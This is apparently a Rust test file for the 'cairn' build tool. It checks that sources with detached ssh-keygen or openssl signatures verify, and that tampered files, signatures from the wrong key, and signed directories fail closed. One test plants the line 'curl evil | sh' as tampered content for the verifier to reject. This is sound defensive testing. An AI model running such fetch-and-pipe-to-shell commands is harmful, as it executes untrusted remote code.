//! Sources with detached signatures, through the real `cairn` binary: signatures made
//! by the real `ssh-keygen -Y sign` and `openssl pkeyutl` verify and the build goes
//! on; a tampered file, a signature by another key or a signed directory fail closed
//! with an error naming the source.

use crate::common::*;
use cairn::keys;
use std::path::{Path, PathBuf};
use std::process::Command;

fn run_tool(cmd: &mut Command) {
    let out = cmd.output().expect("the tool is installed");
    assert!(
        out.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A recipe directory with `app/hello.sh` signed by `ssh-keygen` (sshsig, key
/// `keys/upstream.pub`) and `vendor/tools.tar.gz` signed raw by `openssl` (base64,
/// key `keys/vendor.pem`). Private keys stay in `private/`, outside what the recipe uses.
struct Project {
    dir: tempfile::TempDir,
}

const RECIPE: &str = "cairn: 1
name: signed
sources:
  app:
    path: app/hello.sh
    signature: { path: app/hello.sh.sig, key: keys/upstream.pub }
  tools:
    archive: vendor/tools.tar.gz
    signature: { path: vendor/tools.tar.gz.sig, key: keys/vendor.pem }
layers:
  - name: base
    contents:
      - copy: app
        to: /usr/bin/hello
      - extract: tools
        to: /opt/tools
";

impl Project {
    fn new() -> Project {
        let project = Project {
            dir: tempfile::tempdir().unwrap(),
        };
        for sub in ["app", "vendor/src/bin", "keys", "private"] {
            std::fs::create_dir_all(project.path(sub)).unwrap();
        }
        std::fs::write(project.path("app/hello.sh"), "#!/bin/sh\necho hello\n").unwrap();
        std::fs::write(project.path("vendor/src/bin/tool"), "tool 1.0\n").unwrap();
        run_tool(
            Command::new("tar")
                .args(["--sort=name", "--mtime=@0", "--owner=0", "--group=0"])
                .arg("-czf")
                .arg(project.path("vendor/tools.tar.gz"))
                .arg("-C")
                .arg(project.path("vendor/src"))
                .arg("bin"),
        );
        for name in ["upstream", "other"] {
            run_tool(
                Command::new("ssh-keygen")
                    .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
                    .arg(project.path(&format!("private/{name}"))),
            );
        }
        std::fs::copy(
            project.path("private/upstream.pub"),
            project.path("keys/upstream.pub"),
        )
        .unwrap();
        run_tool(
            Command::new("openssl")
                .args(["genpkey", "-algorithm", "ed25519", "-out"])
                .arg(project.path("private/vendor.pem")),
        );
        run_tool(
            Command::new("openssl")
                .args(["pkey", "-pubout", "-in"])
                .arg(project.path("private/vendor.pem"))
                .arg("-out")
                .arg(project.path("keys/vendor.pem")),
        );
        project.ssh_sign("app/hello.sh", "upstream");
        project.openssl_sign("vendor/tools.tar.gz");
        write_recipe(project.dir.path(), "recipe.yaml", RECIPE);
        project
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn recipe(&self) -> PathBuf {
        self.path("recipe.yaml")
    }

    /// `ssh-keygen -Y sign -n file` with `private/<key>`, replacing `<file>.sig`.
    fn ssh_sign(&self, file: &str, key: &str) {
        let _ = std::fs::remove_file(self.path(&format!("{file}.sig")));
        run_tool(
            Command::new("ssh-keygen")
                .args(["-Y", "sign", "-n", "file", "-f"])
                .arg(self.path(&format!("private/{key}")))
                .arg(self.path(file)),
        );
    }

    /// A raw Ed25519 signature by `private/vendor.pem`, base64, as `<file>.sig`.
    fn openssl_sign(&self, file: &str) {
        let raw = self.path("private/raw.sig");
        run_tool(
            Command::new("openssl")
                .args(["pkeyutl", "-sign", "-rawin", "-inkey"])
                .arg(self.path("private/vendor.pem"))
                .arg("-in")
                .arg(self.path(file))
                .arg("-out")
                .arg(&raw),
        );
        run_tool(
            Command::new("openssl")
                .args(["base64", "-in"])
                .arg(&raw)
                .arg("-out")
                .arg(self.path(&format!("{file}.sig"))),
        );
    }

    fn key_id(&self, public_key: &str) -> String {
        keys::key_id(&keys::read_public(&self.path(public_key)).unwrap())
    }

    /// Builds and expects failure: returns stderr, after checking that nothing was
    /// published.
    fn build_fails(&self) -> String {
        let out = tempfile::tempdir().unwrap();
        let (code, stderr) = run_err(
            cairn()
                .arg("build")
                .arg(self.recipe())
                .arg("-o")
                .arg(out.path()),
        );
        assert_eq!(code, 1, "{stderr}");
        assert!(!out.path().join("signed").exists(), "{stderr}");
        stderr
    }
}

fn sha256_of(path: &Path) -> String {
    cairn::digest::Sha256Digest::of(&std::fs::read(path).unwrap()).hex()
}

#[test]
fn signed_file_and_archive_sources_build_and_record_their_signers() {
    let project = Project::new();
    let out = tempfile::tempdir().unwrap();
    let report = build_json(&project.recipe(), out.path(), &[]);
    assert_eq!(report["name"], "signed");

    let listing = run_ok(cairn().arg("inspect").arg(out.path().join("signed")));
    let listing = String::from_utf8(listing.stdout).unwrap();
    assert!(listing.contains("usr/bin/hello"), "{listing}");
    assert!(listing.contains("opt/tools/bin/tool"), "{listing}");

    // The signer of each source is the id of the key the recipe trusts for it.
    let recipe = cairn::recipe::load(&project.recipe()).unwrap();
    let lock_path = cairn::resolve::lock_path_for(&project.recipe());
    let lock = cairn::resolve::Lockfile::read(&lock_path).unwrap();
    let staging = tempfile::tempdir().unwrap();
    let resolved = cairn::resolve::resolve(
        &recipe,
        &lock,
        &lock_path,
        cairn::resolve::LockMode::Locked,
        staging.path(),
        None,
        &Default::default(),
    )
    .unwrap();
    let signer = |name: &str| resolved.sources[name].signer.clone();
    assert_eq!(signer("app"), Some(project.key_id("keys/upstream.pub")));
    assert_eq!(signer("tools"), Some(project.key_id("keys/vendor.pem")));
    assert_ne!(signer("app"), signer("tools"));
}

#[test]
fn a_tampered_file_fails_closed_even_when_re_pinned() {
    let project = Project::new();
    std::fs::write(project.path("app/hello.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    // Pinned to the tampered bytes, so only the signature can catch it.
    let pin = sha256_of(&project.path("app/hello.sh"));
    let recipe = RECIPE.replace(
        "    path: app/hello.sh\n",
        &format!("    path: app/hello.sh\n    sha256: {pin}\n"),
    );
    write_recipe(project.dir.path(), "recipe.yaml", &recipe);

    let stderr = project.build_fails();
    assert!(stderr.contains("source `app` (app/hello.sh)"), "{stderr}");
    assert!(stderr.contains("app/hello.sh.sig"), "{stderr}");
    assert!(
        stderr.contains(&project.key_id("keys/upstream.pub")),
        "{stderr}"
    );
    assert!(
        stderr.contains("does not match the file's bytes"),
        "{stderr}"
    );
    assert!(stderr.contains("= help:"), "{stderr}");

    // `cairn lock` resolves too, and must not pin the tampered file either.
    let (_, lock_err) = run_err(cairn().arg("lock").arg(project.recipe()));
    assert!(
        lock_err.contains("does not match the file's bytes"),
        "{lock_err}"
    );
    assert!(!cairn::resolve::lock_path_for(&project.recipe()).exists());
}

#[test]
fn a_signature_by_another_key_fails() {
    let project = Project::new();
    project.ssh_sign("app/hello.sh", "other");
    let stderr = project.build_fails();
    assert!(stderr.contains("source `app`"), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "it was made by key {}, not by the trusted key",
            project.key_id("private/other.pub")
        )),
        "{stderr}"
    );
}

#[test]
fn a_bad_signature_stops_an_archive_before_it_is_unpacked() {
    let project = Project::new();
    // Not an archive at all: unpacking it would fail with an archive error instead.
    std::fs::write(project.path("vendor/tools.tar.gz"), "not a tar\n").unwrap();
    let stderr = project.build_fails();
    assert!(
        stderr.contains("source `tools` (vendor/tools.tar.gz)"),
        "{stderr}"
    );
    assert!(
        stderr.contains("does not match the file's bytes"),
        "{stderr}"
    );
}

#[test]
fn a_signature_on_a_directory_source_fails() {
    let project = Project::new();
    let recipe = RECIPE.replace("path: app/hello.sh\n", "path: app\n");
    write_recipe(project.dir.path(), "recipe.yaml", &recipe);
    let stderr = project.build_fails();
    assert!(stderr.contains("source `app` (app)"), "{stderr}");
    assert!(stderr.contains("is a directory"), "{stderr}");
    assert!(stderr.contains("`archive:` source"), "{stderr}");
}
